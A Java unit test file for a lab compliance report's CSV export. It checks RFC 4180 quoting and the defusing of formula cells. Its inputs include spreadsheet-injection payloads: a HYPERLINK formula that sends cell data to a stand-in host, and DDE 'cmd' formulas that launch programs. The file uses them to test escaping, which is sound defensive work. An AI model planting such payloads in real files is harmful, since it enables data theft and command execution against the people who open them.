package io.labscan.controller.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.labscan.controller.report.ComplianceReport.Day;
import io.labscan.controller.report.ComplianceReport.Infection;
import io.labscan.controller.report.ComplianceReport.NonCompliantHost;
import io.labscan.controller.report.ComplianceReport.Rows;
import io.labscan.controller.report.ComplianceReport.StaleAntivirus;
import io.labscan.controller.text.SpreadsheetCsv;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** The report's CSV: RFC 4180 quoting, and no cell a spreadsheet would run as a formula. */
class ReportCsvTest {
  static final DateRange DAY = new DateRange(LocalDate.parse("2026-11-02"), LocalDate.parse("2026-11-03"));

  private static ComplianceReport report(List<NonCompliantHost> out, List<StaleAntivirus> stale,
      List<Infection> infections) {
    return new ComplianceReport(Instant.parse("2026-11-03T06:00:00Z"), Optional.of("physics-lab"), DAY,
        List.of("physics-lab"), List.of(new Day(DAY.from(), 3, 2, "snapshot")), List.of(),
        new Rows<>(out, out.size()), new Rows<>(stale, stale.size()), new Rows<>(List.of(), 0),
        new Rows<>(infections, infections.size()), 3, 2);
  }

  @Test
  void hostNamesAWormChoseStartingWithFormulaCharactersAreDefused() {
    String csv = ReportCsv.render(report(List.of(
        new NonCompliantHost("id-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "physics-lab", "INFECTED",
            List.of("verdict is not CLEAN")),
        new NonCompliantHost("id-2", "+cmd|' /C calc'!A0", "physics-lab", "UNKNOWN", List.of("agent not seen")),
        new NonCompliantHost("id-3", "-2+3", "physics-lab", "UNKNOWN", List.of()),
        new NonCompliantHost("id-4", "@SUM(1+1)*cmd|' /C calc'!A0", "physics-lab", "UNKNOWN", List.of())),
        List.of(), List.of()));
    List<String> lines = List.of(csv.split("\r\n"));
    assertThat(lines.get(2)).isEqualTo("\"out-of-compliance\",\"\",\"physics-lab\",\"id-1\","
        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",,,,\"INFECTED\",\"verdict is not CLEAN\",\"\",\"\"");
    List<List<String>> rows = SpreadsheetCsv.rows(csv);
    assertThat(rows.get(3).get(4)).isEqualTo("'+cmd|' /C calc'!A0");
    assertThat(rows.get(4).get(4)).isEqualTo("'-2+3");
    assertThat(rows.get(5).get(4)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
    SpreadsheetCsv.assertNoFormula(csv);
  }

  @Test
  void aHostnameWithSemicolonsIsOneQuotedCellForSpreadsheetsThatSplitOnSemicolons() {
    String hostname = "pc;=cmd|' /C calc'!A0;@SUM(1)";
    String reason = "av off;-1+1, really";
    String csv = ReportCsv.render(report(List.of(new NonCompliantHost("id-1", hostname, "physics;lab", "UNKNOWN",
        List.of(reason))), List.of(), List.of()));
    SpreadsheetCsv.assertEveryTextCellQuoted(csv);
    List<String> row = SpreadsheetCsv.rows(csv).get(2);
    assertThat(row).hasSize(ReportCsv.HEADER.split(",").length);
    assertThat(row.get(2)).isEqualTo("physics;lab");
    assertThat(row.get(4)).isEqualTo(hostname);
    assertThat(row.get(9)).isEqualTo(reason);
  }

  @Test
  void countsAndPercentagesStayBareNumbersAndADayWithoutDataHasEmptyNumberCells() {
    ComplianceReport r = new ComplianceReport(Instant.parse("2026-11-03T06:00:00Z"), Optional.of("physics-lab"),
        new DateRange(DAY.from(), DAY.from().plusDays(2)), List.of("physics-lab"),
        List.of(new Day(DAY.from(), 3, 2, "snapshot"), new Day(DAY.from().plusDays(1), 0, 0, "none")), List.of(),
        new Rows<>(List.of(), 0), new Rows<>(List.of(), 0), new Rows<>(List.of(), 0), new Rows<>(List.of(), 0), 3, 2);
    String[] lines = ReportCsv.render(r).split("\r\n");
    assertThat(lines[1]).isEqualTo("\"compliance\",\"2026-11-02\",\"physics-lab\",\"\",\"\",2,3,66.7,\"snapshot\",\"\",\"\",\"\"");
    assertThat(lines[2]).isEqualTo("\"compliance\",\"2026-11-03\",\"physics-lab\",\"\",\"\",,,,\"none\",\"\",\"\",\"\"");
  }

  @Test
  void commasQuotesAndLineBreaksAreQuotedAndControlCharactersEscaped() {
    String csv = ReportCsv.render(report(List.of(), List.of(
        new StaleAntivirus("id-9", "pc \"nine\", room 2\r\nfake,row", "physics-lab", "STALE",
            "ClamAV STALE (daily.cld built 9 days ago, limit 3 days)\u001b[31m")),
        List.of()));
    String[] lines = csv.split("\r\n");
    assertThat(lines).hasSize(3);
    assertThat(lines[0]).isEqualTo(ReportCsv.HEADER);
    assertThat(lines[2]).startsWith("\"stale-antivirus\",\"\",\"physics-lab\",\"id-9\",\"pc \"\"nine\"\", room 2")
        .doesNotContain("\u001b").contains("\"ClamAV STALE (daily.cld built 9 days ago, limit 3 days)");
    assertThat(SpreadsheetCsv.rows(csv).get(2).get(4)).isEqualTo("pc \"nine\", room 2\\x0D\\x0Afake,row");
  }

  @Test
  void anInfectionRowCarriesFoundAndClearedTimes() {
    String csv = ReportCsv.render(report(List.of(), List.of(), List.of(new Infection("id-7", "chem-pc-07",
        "physics-lab", Instant.parse("2026-11-02T07:00:00Z"), Optional.of(Instant.parse("2026-11-02T19:00:00Z")),
        "Klez dropper name in the system folder"))));
    assertThat(SpreadsheetCsv.rows(csv).get(2)).containsExactly("infection", "", "physics-lab", "id-7", "chem-pc-07",
        "", "", "", "cleared", "Klez dropper name in the system folder", "2026-11-02T07:00:00Z",
        "2026-11-02T19:00:00Z");
  }

  @Test
  void aListCutAtTheRowLimitSaysSoInANoteRow() {
    List<NonCompliantHost> one = List.of(new NonCompliantHost("id-1", "pc-1", "physics-lab", "UNKNOWN", List.of()));
    ComplianceReport r = new ComplianceReport(Instant.parse("2026-11-03T06:00:00Z"), Optional.empty(), DAY,
        List.of(), List.of(), List.of(), new Rows<>(one, 6001), new Rows<>(List.of(), 0), new Rows<>(List.of(), 0),
        new Rows<>(List.of(), 0), 0, 0);
    assertThat(ReportCsv.render(r)).contains("\"note\",\"\",\"\",\"\",\"\",1,6001,,\"truncated\","
        + "\"out-of-compliance: the first 1 of 6001 rows\"");
  }
}
